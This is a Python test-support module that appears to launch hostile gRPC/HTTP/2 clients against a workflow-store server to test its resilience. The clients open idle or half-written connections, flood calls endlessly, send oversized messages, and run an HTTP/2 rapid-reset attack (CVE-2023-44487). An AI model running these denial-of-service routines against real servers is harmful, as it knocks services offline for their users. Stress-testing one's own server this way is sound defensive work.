"""Clients that want a server's harm, in a process of their own: `python -m support.hostile KIND ADDRESS COUNT`.

They print a line when they have done their worst, and go on with it until they are ended.
"""

import asyncio
import resource
import sys
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack, suppress
from typing import Any

import grpc

from support import http2
from workflowstore.v1 import workflow_state_pb2 as state_pb
from workflowstore.v1 import workflow_store_pb2 as pb
from workflowstore.v1.workflow_store_pb2_grpc import WorkflowStoreStub

LOAD = "/workflowstore.v1.WorkflowStore/Load"
HALVES = (
    b"",
    http2.PREFACE[:12],
    http2.PREFACE,
    http2.PREFACE + http2.frame(http2.SETTINGS) + http2.headers(1, LOAD)[:40],
    http2.PREFACE + http2.frame(http2.SETTINGS) + http2.headers(1, LOAD) + http2.message(1, b"x" * 100)[:20],
)
STREAMS = 100
"""Streams on each connection."""

NARROW = (("grpc.http2.lookahead_bytes", 65_536), ("grpc.http2.bdp_probe", 0), ("grpc.use_local_subchannel_pool", 1))


def ready(*facts: object) -> None:
    print("ready", *facts, flush=True)  # noqa: T201


async def idle(address: str, count: int) -> None:
    """Connections that begin as they should and then say nothing."""
    await _open(address, count, lambda number: http2.PREFACE + http2.frame(http2.SETTINGS))


async def halves(address: str, count: int) -> None:
    """Connections that stop in the middle of a word."""
    await _open(address, count, lambda number: HALVES[number % len(HALVES)])


async def _open(address: str, count: int, said: Callable[[int], bytes]) -> None:
    async with AsyncExitStack() as stack:
        for number in range(count):
            connection = await stack.enter_async_context(http2.connected(address))
            with suppress(ConnectionError):
                await connection.send(said(number))
        ready()
        await asyncio.Event().wait()


async def without_requests(address: str, count: int) -> None:
    """Calls whose request does not come."""
    async with AsyncExitStack() as stack:
        for _ in range(0, count, STREAMS):
            connection = await stack.enter_async_context(http2.connected(address))
            await connection.begin()
            await connection.send(b"".join(http2.headers(2 * number + 1, LOAD) for number in range(STREAMS)))
        ready()
        await asyncio.Event().wait()


async def unread_lists(address: str, count: int) -> None:
    """Lists of which the first chunk is read, and then no more. Each comes again as soon as it is refused."""

    async def unread(stub: Any) -> None:
        while True:
            call = stub.List(pb.ListRequest())
            with suppress(grpc.aio.AioRpcError):
                if await call.read() is not grpc.aio.EOF:
                    begun.append(call)
                    return
            await asyncio.sleep(0.2)

    begun: list[Any] = []
    stubs: list[Any] = [WorkflowStoreStub(grpc.aio.insecure_channel(address, NARROW)) for _ in range(0, count, STREAMS)]
    beginning = [asyncio.create_task(unread(stubs[number // STREAMS])) for number in range(count)]
    await asyncio.wait(beginning, timeout=20)
    ready(len(begun))
    await asyncio.gather(*beginning)
    await asyncio.Event().wait()


async def flood(address: str, count: int) -> None:
    """So many Loads at once, for ever, whatever becomes of them."""
    await _for_ever(address, count, lambda stub: stub.Load(pb.LoadRequest(workflow_id="missing")))


async def too_large(address: str, count: int) -> None:
    """Requests and metadata that are too large, for ever."""
    state = state_pb.WorkflowState(workflow_id="w", error="x" * 17_000_000)
    much = (("x", "y" * 20_000),)
    number = iter(range(sys.maxsize))

    def call(stub: Any) -> Any:
        if next(number) % 2:
            return stub.Save(pb.SaveRequest(state=state))
        return stub.Load(pb.LoadRequest(workflow_id="missing"), metadata=much)

    await _for_ever(address, count, call)


async def _for_ever(address: str, count: int, call: Callable[[Any], Awaitable[Any]]) -> None:
    async def again_and_again(stub: Any) -> None:
        while True:
            with suppress(grpc.aio.AioRpcError):
                await call(stub)

    channels = [
        grpc.aio.insecure_channel(address, (("grpc.use_local_subchannel_pool", 1),)) for _ in range(0, count, STREAMS)
    ]
    stubs: list[Any] = [WorkflowStoreStub(channel) for channel in channels]
    calling = [asyncio.create_task(again_and_again(stubs[number // STREAMS])) for number in range(count)]
    await asyncio.sleep(0.5)
    ready()
    await asyncio.gather(*calling)


async def resets(address: str, count: int) -> None:
    """Streams that are opened and reset at once, `count` in one write, for ever (CVE-2023-44487)."""

    async def read(connection: http2.Connection) -> None:
        while True:
            await connection.frame()

    told = False
    while True:
        async with http2.connected(address) as connection:
            reading = asyncio.create_task(read(connection))
            with suppress(ConnectionError):
                await connection.begin()
                for first in range(1, 2**30, 2 * count):
                    streams = range(first, first + 2 * count, 2)
                    await connection.send(b"".join(_opened_and_reset(stream) for stream in streams))
                    if not told:
                        told = True
                        ready()
                    await asyncio.sleep(0)
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)


def _opened_and_reset(stream: int) -> bytes:
    reset = http2.frame(http2.RST_STREAM, http2.CANCEL.to_bytes(4, "big"), stream=stream)
    return http2.headers(stream, LOAD) + http2.message(stream) + reset


KINDS = {kind.__name__: kind for kind in (idle, halves, without_requests, unread_lists, flood, too_large, resets)}


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(KINDS[sys.argv[1]](sys.argv[2], int(sys.argv[3])))
